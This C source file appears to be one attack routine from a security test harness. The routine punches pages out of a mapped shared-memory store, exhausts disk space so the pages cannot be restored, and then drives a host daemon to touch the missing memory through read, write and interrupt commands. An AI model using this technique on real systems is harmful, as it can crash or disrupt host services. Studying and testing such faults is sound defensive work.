/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Takes pages out of the file of a store, and leaves no room for others.
 *
 *   punch DATA OFFSET PAGES FILL_DIRECTORY [CLAIMED_PAGES]
 *
 * DATA is mapped; if it is of a managed region, after a claim. FILL_DIRECTORY is a region that is made as
 * large as there is room; what is left then is taken by all of the pages but the first. Says `full` then, and after it what each of the lines on standard input brings,
 * 0 or an errno: `look OFFSET` (the daemon looks at a word), `write OFFSET`, `read OFFSET`, `ring`.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include "areas.h"
#include "attacker.h"

static sigjmp_buf after_fault;

static void on_fault(int number) { siglongjmp(after_fault, number); }

/* Whether a page of that memory can be had. */
static bool store(volatile char *memory) {
  if (sigsetjmp(after_fault, 1)) return false;
  *memory = 1;
  return true;
}

static void fill(const char *directory) {
  char path[4096];
  if (mkdir(directory, 0700) < 0) fail("mkdir");
  snprintf(path, sizeof path, "%s/data", directory);
  off_t size = 1 << 20;
  for (off_t step = 4 << 20; step >= PAGE;) {
    if (truncate(path, size + step) == 0) {
      size += step;
    } else {
      if (errno != ENOSPC) fail("truncate");
      step /= 2;
    }
  }
}

int attack_punch(int argc, char **argv) {
  int fd = open_or_fail(argv[1], O_RDWR), error = 0;
  if (argc > 5 && (errno = claim(fd, 0x2000, (uint32_t)number(argv[5]), 0x2000, 7))) fail("claim");
  struct stat status;
  if (fstat(fd, &status) < 0) fail("stat");
  char *memory = mmap(NULL, (size_t)status.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (memory == MAP_FAILED) fail("mmap");
  char *punched = memory + number(argv[2]);
  long pages = number(argv[3]);
  if (madvise(punched, (size_t)pages * PAGE, MADV_REMOVE) < 0) fail("MADV_REMOVE");
  fill(argv[4]);
  signal(SIGBUS, on_fault);
  while (--pages > 0 && store(punched + pages * PAGE)) continue;
  say(pages > 0 ? "full" : "room for all of them");
  char line[64], verb[16];
  unsigned offset = 0;
  while (fgets(line, sizeof line, stdin)) {
    char byte = 1;
    if (sscanf(line, "%15s %x", verb, &offset) < 1) continue;
    error = 0;
    if (strcmp(verb, "look") == 0) {
      error = look(fd, offset);
    } else if (strcmp(verb, "ring") == 0) {
      error = ioctl(fd, VSOC_SEND_INTERRUPT_TO_HOST) < 0 ? errno : 0;
    } else if (strcmp(verb, "write") == 0) {
      error = pwrite(fd, &byte, 1, offset) < 0 ? errno : 0;
    } else if (strcmp(verb, "read") == 0) {
      error = pread(fd, &byte, 1, offset) < 0 ? errno : 0;
    }
    say("%s", error ? strerrorname_np(error) : "0");
  }
  return 0;
}
